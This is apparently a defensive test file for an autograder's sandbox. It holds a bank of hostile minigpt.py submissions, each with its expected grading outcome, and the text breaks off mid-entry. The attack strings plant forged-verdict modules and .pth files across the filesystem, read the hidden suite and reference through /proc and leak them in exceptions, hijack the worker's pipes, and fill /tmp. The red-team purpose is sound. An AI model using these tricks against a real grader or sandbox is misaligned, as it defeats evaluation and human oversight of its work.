"""A bank of attacks on the grader, each a complete minigpt.py with the outcome it must get.

Every attack is built from an underlying model (a *base*: the reference, the
skeleton, or a known-buggy variant of the reference) plus an injected snippet
that tries to RAISE the grade above what the base deserves, LEAK the hidden
suite or reference into the feedback, or DODGE a grade (make the run
ungradable, exit 3). Next to each attack is, as data, what the grader must
make of it:

* ``on``  -- with the static policy on (Docker, and the process backend when
  the attack is harmless for the host);
* ``off`` -- in Docker with the policy off (``--unsafe-skip-policy``): the
  sandbox alone must hold. ``None``: not run that way.

Whatever the expectation says, every run must stay gradable (a student must
never make their own run ungradable), must not leak, and must finish.

The attack code lives in strings (it is never imported here): it only runs
inside the grader's worker. Policy-off attacks find the worker's pipes in its
argv (``--requests``/``--responses``). ``python tests/attacks/bank.py OUTDIR``
writes every attack out as a complete ``OUTDIR/<id>/minigpt.py``, with
``OUTDIR/index.json`` holding each one's class, modes and expected outcomes;
``tests/test_attacks.py`` grades them.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
REFERENCE = REPO / "reference" / "minigpt.py"
SKELETON = REPO / "student_template" / "minigpt.py"

CLASSES = {
    "baseline": "the underlying models, no attack (their deserved grade)",
    "plant": "1. drop modules where the judge might import them",
    "forge": "2. forge answers, patch the worker or the pack, misbehave on the pipes",
    "escape": "3. escape the static policy",
    "leak": "4. read the hidden suite, the reference or the judge's /proc entries",
    "probe": "5. detect being probed and behave differently",
    "resource": "6. memory, loops, recursion, sleep, processes",
}

GEN_ALL = frozenset(
    {"generate_output", "generate_cropping", "generate_sampling", "generate_temperature"}
)
GEN_TRIO = GEN_ALL - {"generate_output"}
ALL_CHECKS = "*"  # stands for every rubric check

DEFAULT_LIMITS: dict[str, float] = {
    "call_timeout": 3.0,
    "import_timeout": 5.0,
    "wall_timeout": 240.0,
}


@dataclass(frozen=True)
class Expect:
    """The outcome an attack must get in one mode.

    A run must always be gradable, leak nothing and finish within ``max_seconds``.
    ``must_fail`` adds to the base's own failures; with ``keep_others`` every
    other check (besides ``may_fail``) must keep its credit. ``max_score``
    defaults to what the base minus ``must_fail`` can earn. ``refusal_ok``: a
    policy refusal is an acceptable outcome too (the final outcome is what counts).
    """

    status: frozenset[str] | None = None
    error_kind: str | None = None
    must_fail: frozenset[str] = frozenset()
    may_fail: frozenset[str] = frozenset()
    keep_others: bool = False
    max_score: float | None = None
    min_score: float | None = None
    refusal_ok: bool = False
    absent: tuple[str, ...] = ()
    min_output_bytes: int = 0
    max_seconds: float = 120.0  # the whole grading of a hostile file (README: worst case)
    base_fails_too: bool = True  # the base's own failures must show (off: only the scores count)


REFUSED = Expect(status=frozenset({"error"}), error_kind="policy", max_score=0.0)
ONLY_GRADABLE = Expect()  # nothing beyond the universal rules (gradable, no leak, finishes)


@dataclass(frozen=True)
class Attack:
    id: str
    cls: str
    description: str
    base: str
    snippet: str
    on: Expect
    off: Expect | None
    host_safe: bool = False  # harmless to the host if it ran: may run on the process backend
    limits: dict[str, float] = field(default_factory=dict)
    prelude: str = ""  # code put before the snippet (shared helpers)

    @property
    def modes(self) -> tuple[str, ...]:
        modes = ["docker"]
        if self.off is not None:
            modes.append("docker_nopolicy")
        if self.host_safe:
            modes.append("process")
        return tuple(modes)

    def expect(self, mode: str) -> Expect:
        if mode == "docker_nopolicy":
            assert self.off is not None
            return self.off
        return self.on

    def settings_limits(self) -> dict[str, float]:
        return {**DEFAULT_LIMITS, **self.limits}

    def source(self, context: dict[str, str] | None = None) -> str:
        text = base_source(self.base)
        extra = "\n\n".join(part.strip("\n") for part in (self.prelude, self.snippet) if part)
        for key, value in (context or {}).items():
            extra = extra.replace(f"@@{key}@@", value)
        return text.rstrip("\n") + "\n\n\n" + extra + "\n" if extra else text


# --- the underlying models ----------------------------------------------------


def _replace_once(text: str, old: str, new: str) -> str:
    if text.count(old) != 1:
        raise ValueError(f"expected one occurrence of {old!r} in the reference")
    return text.replace(old, new)


BADGEN = """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    return list(start_ids) + [0] * max_new_tokens
"""


def base_source(base: str) -> str:
    reference = REFERENCE.read_text(encoding="utf-8")
    if base == "ref":
        return reference
    if base == "skeleton":
        return SKELETON.read_text(encoding="utf-8")
    if base == "nomask":
        return _replace_once(
            reference,
            "visible = i + 1 if causal else len(x)  # the causal mask: keys 0..i only",
            "visible = len(x)  # no causal mask",
        )
    if base == "badgen":
        return reference.rstrip("\n") + "\n\n\n" + BADGEN.strip("\n") + "\n"
    if base == "cutgrad":
        return _replace_once(
            reference,
            "        return [self.head(self.ln_final(row)) for row in x]",
            "        return [[Value(z.data) for z in self.head(self.ln_final(row))] for row in x]",
        )
    if base == "sidebyside":
        return _replace_once(
            reference,
            "        for block in self.blocks:\n            x = block(x)\n",
            "        last = x\n        for block in self.blocks:\n            last = block(x)\n"
            "        x = last\n",
        )
    raise ValueError(f"unknown base {base!r}")


# What each base deserves: the checks it fails (the rest it passes).
BASE_FAILS: dict[str, frozenset[str] | str] = {
    "ref": frozenset(),
    "skeleton": ALL_CHECKS,
    "nomask": frozenset({"causal_mask"}),
    "badgen": GEN_TRIO,
    "cutgrad": frozenset({"gradients", "training", "parameters"}),
    "sidebyside": frozenset({"blocks"}),
}


# --- shared helpers for attack code --------------------------------------------

# Policy off: the worker's pipes, from its argv.
PIPES = """
import json as _json
import os as _os
import sys as _sys


def _arg(flag):
    return _sys.argv[_sys.argv.index(flag) + 1]


_RESP = int(_arg("--responses"))
_REQ = int(_arg("--requests"))


def _emit(data):
    if isinstance(data, dict):
        data = (_json.dumps(data) + "\\n").encode()
    view = memoryview(data)
    while view:
        view = view[_os.write(_RESP, view):]
"""

# Policy on: what an escape does once it holds `os` (or `open`): read the hidden
# suite and the reference (in Docker: /opt/grader; on the process backend: next to
# the pack, found in the worker's own argv) and put them into the feedback through
# an exception at import. It also breaks generate, so that an escape that worked
# but read nothing still shows (generate checks fail).
ESCAPE_PRELUDE = """
ESCAPED = False


def _secrets(read_file):
    found = []
    try:
        argv = read_file("/proc/self/cmdline").split("\\0")
        pack = argv[argv.index("--pack") + 1]
    except Exception:
        pack = "/nonexistent"
    for path in (
        "/opt/grader/grader/suite/test_causal_mask.py",
        "/opt/grader/reference/minigpt.py",
        pack + "/../grader/suite/test_causal_mask.py",
        pack + "/../reference/minigpt.py",
    ):
        try:
            found.append(read_file(path)[:400])
        except Exception:
            pass
    return found


def _leak_if_any(found):
    if found:
        raise RuntimeError("LEAK" + "ED: " + " ".join(found))


def _payload(os_mod):
    global ESCAPED
    ESCAPED = True

    def read_file(path):
        fd = os_mod.open(path, 0)
        try:
            return os_mod.read(fd, 8000).decode("utf-8", "replace")
        finally:
            os_mod.close(fd)

    _leak_if_any(_secrets(read_file))


def _payload_open(open_fn):
    global ESCAPED
    ESCAPED = True

    def read_file(path):
        with open_fn(path, errors="replace") as handle:
            return handle.read(8000)

    _leak_if_any(_secrets(read_file))


class _Namespace:
    def __init__(self, table):
        self.open = table["open"]
        self.read = table["read"]
        self.close = table["close"]


_escape_generate = generate


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    if ESCAPED:
        return list(start_ids) + [0] * max_new_tokens
    return _escape_generate(model, start_ids, max_new_tokens, temperature)
"""


def _guarded(trick: str) -> str:
    """Run an escape trick at import: a leak propagates, any other failure is swallowed."""
    body = "\n".join("    " + line if line else "" for line in trick.strip("\n").splitlines())
    return f"try:\n{body}\nexcept RuntimeError:\n    raise\nexcept Exception:\n    pass\n"


# A planted module: if the judge ever imported it, it would print a forged
# full-marks verdict on every fd (the host reads the judge's last stdout line).
def bomb_source(fake_line: str) -> str:
    return (
        "import os\n"
        f"FAKE = {fake_line.encode()!r}\n"
        "for fd in range(1, 256):\n"
        "    try:\n"
        "        os.write(fd, FAKE)\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(0)\n"
    )


PLANT = """
_BOMB = @@BOMB@@
_PTH = "import os; exec(" + repr(_BOMB) + ")\\n"
_FILES = {
    "conftest.py": _BOMB,
    "pytest_jsonreport.py": _BOMB,
    "pytest_jsonreport/__init__.py": _BOMB,
    "pytest_jsonreport/plugin.py": _BOMB,
    "pytest_timeout.py": _BOMB,
    "pytest.py": _BOMB,
    "_pytest/__init__.py": _BOMB,
    "_pytest/main.py": _BOMB,
    "pluggy.py": _BOMB,
    "pydantic.py": _BOMB,
    "pydantic/__init__.py": _BOMB,
    "grader/__init__.py": _BOMB,
    "grader/judge/__init__.py": _BOMB,
    "grader/judge/verdict.py": _BOMB,
    "grader/suite/conftest.py": _BOMB,
    "sitecustomize.py": _BOMB,
    "usercustomize.py": _BOMB,
    "engine.py": _BOMB,
    "nn.py": _BOMB,
    "json.py": _BOMB,
    "random.py": _BOMB,
    "minigpt.py": _BOMB,
    "zz_planted.pth": _PTH,
    "pytest.ini": "[pytest]\\naddopts = -p conftest\\n",
    "pyproject.toml": "[tool.pytest.ini_options]\\naddopts = '-p conftest'\\n",
}


def _plant_targets():
    found = {_os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/root", "/home"}
    for key in ("TMPDIR", "TEMP", "TMP", "HOME", "PWD"):
        if _os.environ.get(key):
            found.add(_os.environ[key])
    found.add(_os.path.expanduser("~"))
    found.add(_os.path.dirname(_arg("--submission")))
    found.add(_os.path.dirname(_arg("--pack")))
    found.update(p for p in _sys.path if p)
    found.update((
        "/opt/grader", "/opt/grader/grader", "/opt/grader/grader/suite", "/opt/sandbox",
        "/opt/sandbox/worker", "/opt/sandbox/pack", "/usr/local/lib/python3.11/site-packages",
        "/usr/local/lib/python3.11/dist-packages", "/usr/lib/python3/dist-packages",
        "/usr/lib/python3.11", "/usr/local/lib/python3.11",
    ))
    for root in ("/tmp", "/var/tmp"):
        try:
            found.update(_os.path.join(root, name) for name in _os.listdir(root))
        except OSError:
            pass
    return sorted(found)


def _plant():
    planted = []
    for folder in _plant_targets():
        for name, text in _FILES.items():
            path = _os.path.join(folder, name)
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write(text)
                planted.append(path)
            except OSError:
                pass
    return planted


PLANTED = _plant()
"""


def _attack(
    id: str,
    cls: str,
    description: str,
    base: str,
    snippet: str,
    on: Expect,
    off: Expect | None,
    *,
    host_safe: bool = False,
    limits: dict[str, float] | None = None,
    prelude: str = "",
) -> Attack:
    return Attack(id, cls, description, base, snippet, on, off, host_safe, limits or {}, prelude)


def _fails(*checks: str | frozenset[str], **kwargs: Any) -> Expect:
    found: set[str] = set()
    for check in checks:
        found |= {check} if isinstance(check, str) else set(check)
    return Expect(must_fail=frozenset(found), **kwargs)


# --- the bank -----------------------------------------------------------------

ATTACKS: list[Attack] = []
add = ATTACKS.append

# Baselines: what the underlying models deserve, graded the same way.
# Side effects of a base's own bug that depend on the grading seed: blocks applied side by
# side leave a whole block without gradient, so the share of non-zero gradients sits near
# the gradients check's 50% and falls on either side of it.
_BASE_MAY_FAIL = {"sidebyside": frozenset({"gradients"})}

for _base, _doc in (
    ("ref", "the reference solution"),
    ("skeleton", "the student template, nothing implemented"),
    ("nomask", "the reference without the causal mask"),
    ("badgen", "the reference with a generate that appends zeros"),
    ("cutgrad", "the reference with the logits cut from the graph (Value(z.data))"),
    ("sidebyside", "the reference with the blocks applied side by side"),
):
    add(
        _attack(
            f"base_{_base}",
            "baseline",
            f"{_doc}, unmodified",
            _base,
            "",
            Expect(keep_others=True, may_fail=_BASE_MAY_FAIL.get(_base, frozenset())),
            Expect(keep_others=True) if _base in ("ref", "badgen") else None,
            host_safe=True,
        )
    )

# 1. Plant modules -------------------------------------------------------------

add(
    _attack(
        "plant_modules_everywhere",
        "plant",
        "writes pytest plugins, conftest.py, _pytest, pydantic, grader, engine, "
        "sitecustomize/usercustomize and a .pth (each a forged-verdict bomb) into every "
        "folder it can reach: cwd, TMPDIR, /tmp and its sub-folders, HOME, the "
        "submission's and the pack's folders, sys.path, site-packages",
        "badgen",
        PLANT,
        REFUSED,
        Expect(keep_others=True, absent=("PLANTED-BOMB-RAN",)),
        prelude=PIPES,
    )
)
add(
    _attack(
        "plant_and_restart_workers",
        "plant",
        "plants the same bombs, then exits in every generate call so the judge starts new "
        "workers (and imports whatever it imports meanwhile)",
        "badgen",
        PLANT
        + """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    _plant()
    _os._exit(0)
""",
        REFUSED,
        Expect(must_fail=GEN_ALL, keep_others=True, absent=("PLANTED-BOMB-RAN",), max_seconds=300),
        prelude=PIPES,
    )
)
add(
    _attack(
        "fill_tmpfs",
        "plant",
        "fills /tmp (the container's only writable place, shared with the judge's private "
        "folder where pytest-json-report writes its report) until ENOSPC, at import",
        "badgen",
        """
def _fill():
    written = 0
    for folder in (_os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
        for i in range(64):
            try:
                with open(_os.path.join(folder, f"fill-{_os.getpid()}-{i}.bin"), "wb") as out:
                    for _ in range(15):
                        out.write(b"\\0" * (1 << 20))
                        written += 1 << 20
            except OSError:
                break
    return written


FILLED = _fill()
""",
        REFUSED,
        Expect(keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "plant_symlink_traps",
        "plant",
        "creates symlinks and FIFOs in /tmp named like the judge's report file and "
        "private folders, pointing at the submission, /dev/zero and the suite",
        "badgen",
        """
def _traps():
    made = 0
    targets = (__file__, "/dev/zero", "/opt/grader/grader/suite")
    for name in ("report.json", "report-", "judge-", "pytest-of-judge", ".pytest_cache"):
        for i, target in enumerate(targets):
            for folder in ("/tmp", _os.getcwd()):
                try:
                    _os.symlink(target, _os.path.join(folder, f"{name}{i}"))
                    made += 1
                except OSError:
                    pass
        try:
            _os.mkfifo(_os.path.join("/tmp", name + ".fifo"))
            made += 1
        except OSError:
            pass
    return made


TRAPS = _traps()
""",
        REFUSED,
        Expect(keep_others=True),
        prelude=PIPES,
    )
)

# 2. Forge answers, patch things, misbehave on the pipes ------------------------

add(
    _attack(
        "forge_extra_ready",
        "forge",
        "writes a second {'ready': true, 'protocol': 3} line on the answer pipe at import: "
        "the judge takes it for the import's answer and the real one for the next request's",
        "badgen",
        """
_emit({"ready": True, "protocol": 3})
""",
        REFUSED,
        Expect(max_score=None),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_results_on_skeleton",
        "forge",
        "the skeleton, which writes ready plus 400 plausible forged results (handles, "
        "shapes, params, losses, ids) on the answer pipe at import",
        "skeleton",
        """
_ANSWERS = [
    {"handle": 1},
    {"identity": [0, 1, 2], "data": [0.5, -0.25, 1.0]},
    {"shape": [3, 5], "data": [[0.0] * 5] * 3, "out": 1},
    {"shape": [6, 7], "data": [[0.1] * 7] * 6, "out": 2},
    {"loss": 1.0, "out": 3},
    {"grads": [0.0, 0.0, 0.0]},
    {"ids": [1, 2, 0, 0, 0, 0, 0], "start_after": [1, 2]},
    {"leaves": [0, 1, 2]},
    {"tokens": [0, 1, 2]},
    {"held": []},
    {"calls": 3},
    {},
]
_emit({"ready": True, "protocol": 3})
for _ in range(40):
    for _answer in _ANSWERS:
        _emit({"result": _answer})
""",
        REFUSED,
        Expect(),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_protocol_junk",
        "forge",
        "in generate: a 1 MB stage name, calls with a string context and a nested 'bad', and "
        "an error record with junk fields (unknown kind, 1000 frames, huge type and message)",
        "badgen",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    _emit({"stage": "S" * 1_000_000})
    _emit({"stage": [[1, 2], {"a": None}]})
    _emit({"call": {"context": "0123"}})
    _emit({"call": {"bad": [[[[1]]]] * 1000}})
    _emit({"error": {
        "kind": "passed", "type": "T" * 100_000, "message": "M" * 100_000,
        "frames": [[1, "f", "c"]] * 1000 + [["x"], None, 7],
        "first": [10 ** 8, None, []], "seconds": "never", "signal": "yes",
    }})
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_nan_infinity",
        "forge",
        "before every MiniGPT.forward answer, writes a forged one full of NaN/Infinity",
        "ref",
        """
_real_forward_nan = MiniGPT.forward


def _forward_nan(self, token_ids):
    n, v = len(token_ids), self.vocab_size
    specials = [b"NaN", b"Infinity", b"-Infinity"]
    row = b"[" + b",".join(specials[k % 3] for k in range(v)) + b"]"
    head = b'{"result":{"shape":[%d,%d],"data":[' % (n, v)
    _emit(head + b",".join([row] * n) + b'],"out":1}}\\n')
    return _real_forward_nan(self, token_ids)


MiniGPT.forward = _forward_nan
""",
        REFUSED,
        _fails("shapes", "positional"),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_non_utf8",
        "forge",
        "in generate: a line of bytes that are not UTF-8, then the real answer",
        "badgen",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    _emit(b'\\xff\\xfe\\xc3{"result":{"ids":[0],"start_after":[0]}}\\xed\\xa0\\x80\\n')
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_deep_nesting",
        "forge",
        "in generate: a result nested 200000 lists deep",
        "badgen",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    _emit(b'{"result":{"ids":' + b"[" * 200_000 + b"]" * 200_000 + b',"start_after":[]}}\\n')
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_huge_line",
        "forge",
        "in generate: 20 MB without a newline on the answer pipe",
        "badgen",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    chunk = b"7" * (1 << 20)
    for _ in range(20):
        _emit(chunk)
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_huge_int_result",
        "forge",
        "before every MiniGPT.forward answer, writes a forged one whose numbers are 10**400 "
        "(valid JSON ints that no float can hold)",
        "ref",
        """
_real_forward_int = MiniGPT.forward


def _forward_int(self, token_ids):
    big = 10 ** 400
    rows = [[big] * self.vocab_size for _ in token_ids]
    _emit({"result": {"shape": [len(rows), self.vocab_size], "data": rows, "out": 1}})
    return _real_forward_int(self, token_ids)


MiniGPT.forward = _forward_int
""",
        REFUSED,
        _fails("shapes", "positional"),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_huge_int_error",
        "forge",
        "in generate: a forged error record {'kind': 'timeout', 'seconds': 10**400}",
        "badgen",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    _emit({"error": {"kind": "timeout", "seconds": 10 ** 400, "message": "slow"}})
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(must_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "forge_huge_int_error_at_import",
        "forge",
        "the skeleton, which answers its own import with a forged error record whose "
        "'seconds' is 10**400",
        "skeleton",
        """
_emit({"error": {"kind": "timeout", "seconds": 10 ** 400, "message": "slow"}})
""",
        REFUSED,
        Expect(),
        prelude=PIPES,
    )
)
add(
    _attack(
        "patch_worker_emulator",
        "forge",
        "the skeleton, which takes over the worker at import: it answers every request "
        "itself from a fake emulator (right shapes and parameter counts, zeros, table "
        "lookups, identity blocks) and never returns to the real worker",
        "skeleton",
        """
def _param_count(cls, args, kwargs):
    if cls == "Embedding":
        return args[0] * args[1]
    if cls == "LayerNorm":
        return 2 * args[0]
    if cls == "FeedForward":
        d = args[0]
        h = kwargs.get("hidden_dim") or (args[1] if len(args) > 1 and args[1] else 4 * d)
        return 2 * d * h + h + d
    if cls == "SelfAttention":
        d = args[0]
        return 4 * d * d + d
    if cls == "TransformerBlock":
        d = args[0]
        return 4 * d + (4 * d * d + d) + (8 * d * d + 5 * d)
    if cls == "MiniGPT":
        v, d, heads, layers, n = args
        block = 4 * d + (4 * d * d + d) + (8 * d * d + 5 * d)
        return v * d + n * d + layers * block + 2 * d + d * v + v
    return 1


def _emulate():
    objects, outputs = {}, {}
    counter = [0]
    reader = _os.fdopen(_REQ, "rb")
    _emit({"ready": True, "protocol": 3})

    def new_key():
        counter[0] += 1
        return counter[0]

    while True:
        line = reader.readline()
        if not line:
            _os._exit(0)
        request = _json.loads(line)
        op = request.get("op")
        result = {}
        if op == "new":
            key = new_key()
            count = _param_count(request["cls"], request["args"], request["kwargs"])
            objects[key] = {"cls": request["cls"], "args": request["args"],
                            "data": [0.0] * count}
            result = {"handle": key}
        elif op == "params":
            data = objects[request["handle"]]["data"]
            result = {"identity": list(range(len(data))), "data": data}
        elif op == "set_params":
            objects[request["handle"]]["data"] = list(request["data"])
        elif op in ("forward", "count_calls"):
            obj = objects[request["handle"]]
            x, cls, args = request["input"], obj["cls"], obj["args"]
            if cls == "Embedding":
                d = args[1]
                data = [obj["data"][i * d:(i + 1) * d] for i in x]
            elif cls in ("LayerNorm", "FeedForward"):
                data = [0.0] * args[0]
            elif cls == "SelfAttention":
                data = [[0.0] * args[0] for _ in x]
            elif cls == "TransformerBlock":
                data = [list(row) for row in x]
            else:
                if len(x) > args[4]:
                    _emit({"error": {"kind": "exception", "type": "ValueError",
                                     "message": "too long", "stage": "MiniGPT.forward()"}})
                    continue
                data = [[0.0] * args[0] for _ in x]
            key = new_key()
            outputs[key] = (obj, x)
            result = {"shape": [], "data": data, "out": key}
            if op == "count_calls":
                result = {"calls": 1}
        elif op == "loss":
            key = new_key()
            outputs[key] = (None, request["logits"])
            result = {"loss": 0.0, "out": key}
        elif op == "grads":
            result = {"grads": [0.0] * len(objects[request["handle"]]["data"])}
        elif op == "input_grads":
            _, x = outputs[request["out"]]
            result = {"grads": [[0.0] * len(r) if isinstance(r, list) else 0.0 for r in x]}
        elif op == "leaves":
            obj, _ = outputs[request["out"]]
            result = {"leaves": list(range(len(obj["data"]))) if obj else []}
        elif op == "tokens":
            result = {"tokens": list(range(len(objects[request["handle"]]["data"])))}
        elif op == "held":
            result = {"held": []}
        elif op == "generate":
            start = request["start"]
            result = {"ids": start + [0] * request["max_new_tokens"], "start_after": start}
        _emit({"result": result})


_emulate()
""",
        REFUSED,
        # What trivially shaped code earns honestly (shapes, max_seq_len, generate_output,
        # parameters, blocks, residual: about 27 points); forging the protocol adds nothing.
        Expect(max_score=30.0, base_fails_too=False),
        prelude=PIPES,
    )
)
add(
    _attack(
        "patch_worker_module",
        "forge",
        "patches the worker's own module through sys.modules['__main__']: Channel.send "
        "duplicates every 7th answer (desynchronising the pipe), Worker.op_forward zeroes "
        "the data, json.dumps appends forged verdict text",
        "badgen",
        """
_main = _sys.modules["__main__"]
_real_send = _main.Channel.send
_sent = [0]


def _send(self, message):
    _sent[0] += 1
    if "result" in message and _sent[0] % 7 == 0:
        _real_send(self, message)
    _real_send(self, message)


_real_op_forward = _main.Worker.op_forward


def _op_forward(self, **request):
    answer = _real_op_forward(self, **request)
    answer["data"] = _json.loads(_json.dumps(answer["data"]).replace("-", ""))
    return answer


_real_dumps = _json.dumps


def _dumps(obj, *args, **kwargs):
    text = _real_dumps(obj, *args, **kwargs)
    if isinstance(obj, dict) and "result" in obj:
        text += "\\n" + _real_dumps({"result": {"status": "passed", "score": 100}})
    return text


_main.Channel.send = _send
_main.Worker.op_forward = _op_forward
_json.dumps = _dumps
""",
        REFUSED,
        Expect(),
        prelude=PIPES,
    )
)
add(
    _attack(
        "value_patch_eq_backward",
        "forge",
        "monkeypatches the pack's Value: every comparison says equal, backward does nothing "
        "(on a model without a causal mask)",
        "nomask",
        """
def _always_equal(self, other):
    return True


def _never_differs(self, other):
    return False


def _skip_backward(self):
    return None


Value.__eq__ = _always_equal
Value.__ne__ = _never_differs
Value.__le__ = _always_equal
Value.__ge__ = _always_equal
Value.backward = _skip_backward
""",
        _fails("gradients", "training", refusal_ok=True),
        _fails("gradients", "training"),
        host_safe=True,
    )
)
add(
    _attack(
        "value_subclass_outputs",
        "forge",
        "MiniGPT.forward returns a Value subclass whose comparisons, float() and bool() lie",
        "ref",
        """
class _LyingValue(Value):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __float__(self):
        return 0.0

    def __bool__(self):
        return True

    def __hash__(self):
        return 0


_real_forward_liar = MiniGPT.forward


def _forward_liar(self, token_ids):
    return [[_LyingValue(z.data) for z in row] for row in _real_forward_liar(self, token_ids)]


MiniGPT.forward = _forward_liar
""",
        _fails("shapes", "positional", "causal_mask", refusal_ok=True),
        _fails("shapes", "positional", "causal_mask"),
        host_safe=True,
    )
)
add(
    _attack(
        "garbage_returns",
        "forge",
        "SelfAttention.forward returns, call by call: True, a string, None, a list nested "
        "10000 deep, plain floats, Value(nan), Value(inf), 300000 Values, ragged rows, a dict",
        "ref",
        """
_garbage_calls = [0]


def _garbage_attention(self, x, causal=True):
    _garbage_calls[0] += 1
    pick = _garbage_calls[0] % 10
    t, d = len(x), len(x[0]) if x else 0
    if pick == 0:
        return True
    if pick == 1:
        return "attention"
    if pick == 2:
        return None
    if pick == 3:
        deep = []
        for _ in range(10_000):
            deep = [deep]
        return deep
    if pick == 4:
        return [[math.inf] * d for _ in range(t)]
    if pick == 5:
        return [[Value(math.nan)] * d for _ in range(t)]
    if pick == 6:
        return [[Value(math.inf)] * d for _ in range(t)]
    if pick == 7:
        return [Value(0.0)] * 300_000
    if pick == 8:
        return [[Value(0.0)] * (i + 1) for i in range(t)]
    return {"rows": x}


SelfAttention.forward = _garbage_attention
""",
        _fails("attention", "causal_mask", "shapes", refusal_ok=True),
        _fails("attention", "causal_mask", "shapes"),
        host_safe=True,
    )
)
add(
    _attack(
        "grads_garbage",
        "forge",
        "patches Value.backward: after the real one, every leaf's grad becomes None, a "
        "string, nan, inf, 10**400, True or a list, in turn",
        "ref",
        """
_real_backward_garbage = Value.backward
_bad_grads = [None, "grad", math.nan, math.inf, 10 ** 400, True, [1.0]]
_backward_calls = [0]


def _garbage_backward(self):
    _real_backward_garbage(self)
    _backward_calls[0] += 1
    bad = _bad_grads[_backward_calls[0] % len(_bad_grads)]
    stack, seen = [self], set()
    while stack:
        node = stack.pop()
        if id(node) in seen:
            continue
        seen.add(id(node))
        if node._children:
            stack.extend(node._children)
        else:
            node.grad = bad


Value.backward = _garbage_backward
""",
        _fails("gradients", "training", "embedding", "cross_entropy", refusal_ok=True),
        _fails("gradients", "training", "embedding", "cross_entropy"),
        host_safe=True,
    )
)
add(
    _attack(
        "parameters_endless",
        "forge",
        "MiniGPT.parameters() is a generator that never ends; Embedding.parameters() is a "
        "list of 10 million copies of one Value",
        "ref",
        """
def _endless_parameters(self):
    while True:
        yield Value(0.0)


def _ten_million_parameters(self):
    return [self.weight[0][0]] * 10_000_000


MiniGPT.parameters = _endless_parameters
Embedding.parameters = _ten_million_parameters
""",
        _fails("embedding", "parameters", "gradients", "training", "positional", refusal_ok=True),
        _fails("embedding", "parameters", "gradients", "training", "positional"),
        host_safe=True,
    )
)
_LONG_NAME = "E" * 30_000
add(
    _attack(
        "exceptions_weird",
        "forge",
        "cross_entropy_loss raises an exception class with a 30000-character name and a "
        "10 MB message; generate raises one whose __str__ raises itself",
        "ref",
        f"""
class {_LONG_NAME}(Exception):
    pass


def cross_entropy_loss(logits, targets):
    raise {_LONG_NAME}("y" * 10_000_000)


class _Unprintable(Exception):
    def __str__(self):
        raise _Unprintable()

    def __repr__(self):
        raise _Unprintable()


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    raise _Unprintable()
""",
        _fails("cross_entropy", GEN_ALL, keep_others=True),
        _fails("cross_entropy", GEN_ALL, keep_others=True),
        host_safe=True,
    )
)
add(
    _attack(
        "exception_str_loops",
        "forge",
        "generate raises an exception whose __str__ never returns (the worker hangs while "
        "describing it)",
        "ref",
        """
class _Endless(Exception):
    def __str__(self):
        while True:
            pass


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    raise _Endless()
""",
        _fails(GEN_ALL, keep_others=True),
        None,
        host_safe=True,
        limits={"call_timeout": 2.0},
    )
)
add(
    _attack(
        "surrogate_in_message",
        "forge",
        "cross_entropy_loss raises ValueError('\\ud800 \\udfff'): lone surrogates, which no "
        "UTF-8 encoder accepts, in the message the feedback quotes",
        "ref",
        """
def cross_entropy_loss(logits, targets):
    raise ValueError("bad \\ud800 \\udfff surrogate")
""",
        _fails("cross_entropy", keep_others=True),
        _fails("cross_entropy", keep_others=True),
        host_safe=True,
    )
)
add(
    _attack(
        "surrogate_in_attribute_path",
        "forge",
        "MiniGPT keeps an unlisted weight under a dict key with a lone surrogate: the "
        "parameters check names its attribute path in the feedback",
        "ref",
        """
_GPT_SURROGATE = MiniGPT


class MiniGPT(_GPT_SURROGATE):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.extra = {"\\ud800": [Value(0.0)]}

    def parameters(self):
        hidden = self.extra["\\ud800"][0]
        return [p for p in super().parameters() if p is not hidden]

    def forward(self, token_ids):
        bonus = self.extra["\\ud800"][0]
        return [[z + bonus for z in row] for row in super().forward(token_ids)]
""",
        _fails("parameters", keep_others=True, refusal_ok=True),
        _fails("parameters", keep_others=True),
        host_safe=True,
    )
)
add(
    _attack(
        "close_answer_pipe",
        "forge",
        "in generate: closes the answer pipe (os.close) and keeps running",
        "ref",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    _os.close(_RESP)
    while True:
        pass
""",
        REFUSED,
        _fails(GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "exit_tricks_os",
        "forge",
        "cross_entropy_loss calls os._exit(0); generate in turn sys.exit(0), SIGKILLs "
